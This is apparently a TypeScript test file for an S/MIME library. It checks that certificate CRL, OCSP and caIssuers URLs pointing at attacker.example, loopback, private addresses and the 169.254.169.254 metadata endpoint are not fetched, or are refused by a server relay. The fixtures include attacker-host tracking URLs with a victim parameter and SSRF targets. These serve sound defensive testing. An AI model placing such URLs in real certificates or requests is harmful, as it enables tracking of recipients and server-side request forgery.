// Backchannels beyond HTML (EFAIL, Poddebniak et al., USENIX Security 2018), row E3 of
// notes/smime-stack.md section 4: URLs an attacker writes into certificates (CRL distribution
// points, OCSP and AIA caIssuers) pointing at attacker.example, loopback and the private network.
// Asserted: lib/smime asks for revocation only on a chain that reaches a trust anchor (an untrusted
// chain triggers no CRL/OCSP fetch), fetches an AIA caIssuers URL only of the certificate whose
// path it is building (never of other certificates the message carries), and every request goes
// through the injected PkiFetcher (recorded here). The server relay (server/pki/relay-fetch.ts)
// refuses loopback and private addresses, also behind a name or a redirect, and caps size and time.
import http from 'node:http';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { type PkiFetchRequest, type PkiFetcher, SmimeError, type TrustSettings, readMessage } from '@/lib/smime';
import { parseAllowList } from '@/server/pki/address-policy';
import { type RelayOptions, relayPkiFetch } from '@/server/pki/relay-fetch';

import { type IssuedCert, type TestPki, createTestPki } from '../../support/test-pki';
import { message, signedEntity, textEntity } from '../support/mime-messages';
import { type AttackPki, createAttackPki, identityOf, trustOf } from '../support/mime-pki';

const ATTACKER_URLS = [
  'crlDistributionPoints = URI:http://attacker.example/track.crl?victim=bob, URI:http://10.0.0.1/internal.crl',
  'authorityInfoAccess = OCSP;URI:http://127.0.0.1:9/ocsp, caIssuers;URI:http://attacker.example/ca.der?victim=bob',
];

let pki: AttackPki;
let evil: TestPki;
/** Eve's own CA (not trusted) and a leaf from it full of attacker URLs. */
let evilLeaf: IssuedCert;
/** A certificate the message carries besides the signer's, with URLs of its own. */
let decoy: IssuedCert;
/** A leaf from the trusted root whose CRL DP names an attacker's host: still the trusted CA's word. */
let trustedLeaf: IssuedCert;

beforeAll(() => {
  pki = createAttackPki();
  evil = createTestPki('sealpost-attacks-evil-');
  evilLeaf = evil.issue({ name: 'eve-evil', email: 'eve@evil.example', extraExtensions: ATTACKER_URLS });
  decoy = evil.issue({
    name: 'decoy',
    email: 'decoy@evil.example',
    extraExtensions: ['crlDistributionPoints = URI:http://decoy.attacker.example/d.crl', 'authorityInfoAccess = caIssuers;URI:http://decoy.attacker.example/d.der'],
  });
  trustedLeaf = pki.issue({ name: 'carol', email: 'carol@example.org', extraExtensions: ['crlDistributionPoints = URI:http://crl.example/root.crl'] });
});
afterAll(() => {
  pki?.cleanup();
  evil?.cleanup();
});

/** A fetcher that records every request and answers none (the network is down). */
function recordingFetcher(): { fetcher: PkiFetcher; urls: string[] } {
  const urls: string[] = [];
  return {
    urls,
    fetcher: {
      async fetch(request: PkiFetchRequest) {
        urls.push(request.url);
        throw new SmimeError('fetch-failed', `${request.url} is not reachable in this test.`);
      },
    },
  };
}

async function readSignedBy(signer: IssuedCert, chain: IssuedCert[], trust: TrustSettings) {
  const raw = message(['From: ' + signer.email!, 'To: bob@example.org', 'Subject: Hi', 'MIME-Version: 1.0'], await signedEntity(textEntity('Hello Bob.'), identityOf(signer, chain)));
  return (await readMessage(raw, { identities: [], trust })).report;
}

describe('lib/smime: which certificate URLs are fetched, and how', () => {
  it('an untrusted chain with attacker CRL/OCSP URLs triggers no revocation fetch', async () => {
    for (const revocation of ['soft-fail', 'hard-fail'] as const) {
      const { fetcher, urls } = recordingFetcher();
      const report = await readSignedBy(evilLeaf, [decoy], trustOf(pki, { fetcher, revocation }));
      expect(report.signatures[0]).toMatchObject({ intact: true, chain: 'untrusted-root', revocation: { status: 'not-checked' } });
      expect(urls.filter((u) => /\.crl|ocsp|127\.0\.0\.1|10\.0\.0\.1/.test(u))).toEqual([]);
      // The one URL asked for is the signer's own caIssuers (path building), through the fetcher;
      // nothing of the decoy certificate the message also carries.
      expect(urls).toEqual(['http://attacker.example/ca.der?victim=bob']);
    }
  });

  it('without a fetcher nothing is fetched at all, and the verdict is the same', async () => {
    const report = await readSignedBy(evilLeaf, [decoy], trustOf(pki, { fetcher: null, revocation: 'hard-fail' }));
    expect(report.signatures[0]).toMatchObject({ intact: true, chain: 'untrusted-root' });
  });

  it('control: a chain to the trust anchor has its CRL asked for, through the fetcher only', async () => {
    const { fetcher, urls } = recordingFetcher();
    const report = await readSignedBy(trustedLeaf, [decoy], trustOf(pki, { fetcher, revocation: 'soft-fail' }));
    expect(report.signatures[0]).toMatchObject({ intact: true, chain: 'trusted', revocation: { status: 'unknown' } });
    expect(urls).toEqual(['http://crl.example/root.crl']);
    const off = recordingFetcher();
    await readSignedBy(trustedLeaf, [], trustOf(pki, { fetcher: off.fetcher, revocation: 'off' }));
    expect(off.urls).toEqual([]);
  });
});

describe('server relay: attacker-shaped URLs', () => {
  let server: http.Server;
  let base: string;
  const hits: string[] = [];

  beforeAll(async () => {
    server = http.createServer((req, res) => {
      hits.push(req.url ?? '');
      if (req.url === '/big-declared') res.writeHead(200, { 'content-length': 4096 }).end(Buffer.alloc(4096));
      else if (req.url === '/big-chunked') {
        res.writeHead(200);
        for (let i = 0; i < 8; i++) res.write(Buffer.alloc(512));
        res.end();
      } else if (req.url === '/slow') {
        // Never answers: the relay's deadline must end the wait.
      } else if (req.url?.startsWith('/to/')) res.writeHead(302, { location: decodeURIComponent(req.url.slice(4)) }).end();
      else res.writeHead(200).end('ok');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  const options = (allow = '', over: Partial<RelayOptions> = {}): RelayOptions => ({
    allow: parseAllowList(allow),
    maxBytes: 1024,
    timeoutMs: 500,
    lookup: async () => [{ address: '127.0.0.1' }],
    ...over,
  });
  const codeOf = (p: Promise<unknown>) => p.then(() => 'resolved', (e: { code?: string }) => e.code);

  it('refuses loopback, private and link-local targets unless configured, without connecting', async () => {
    const before = hits.length;
    for (const url of [`${base}/ok`, 'http://10.0.0.1/internal.crl', 'http://169.254.169.254/latest/meta-data/', 'http://[::1]/', 'http://attacker.example/track.crl']) {
      // attacker.example resolves to 127.0.0.1 here (a hostile DNS answer).
      expect(await codeOf(relayPkiFetch({ url, method: 'GET' }, options())), url).toBe('pki-fetch-refused');
    }
    expect(hits.length).toBe(before);
    // Configured by the operator: loopback is then reached.
    expect(Buffer.from(await relayPkiFetch({ url: `${base}/ok`, method: 'GET' }, options('127.0.0.1/32'))).toString()).toBe('ok');
  });

  it('checks every redirect hop like the first URL', async () => {
    for (const target of ['http://10.0.0.1/x.crl', 'http://169.254.169.254/', 'http://127.0.0.2/']) {
      const url = `${base}/to/${encodeURIComponent(target)}`;
      expect(await codeOf(relayPkiFetch({ url, method: 'GET' }, options('127.0.0.1/32'))), target).toBe('pki-fetch-refused');
    }
  });

  it('caps the answer’s size, declared or not, and its time', async () => {
    expect(await codeOf(relayPkiFetch({ url: `${base}/big-declared`, method: 'GET' }, options('127.0.0.1/32')))).toBe('pki-fetch-too-large');
    expect(await codeOf(relayPkiFetch({ url: `${base}/big-chunked`, method: 'GET' }, options('127.0.0.1/32')))).toBe('pki-fetch-too-large');
    const started = Date.now();
    expect(await codeOf(relayPkiFetch({ url: `${base}/slow`, method: 'GET' }, options('127.0.0.1/32', { timeoutMs: 300 })))).toBe('pki-fetch-timeout');
    expect(Date.now() - started).toBeLessThan(3000);
  });
});
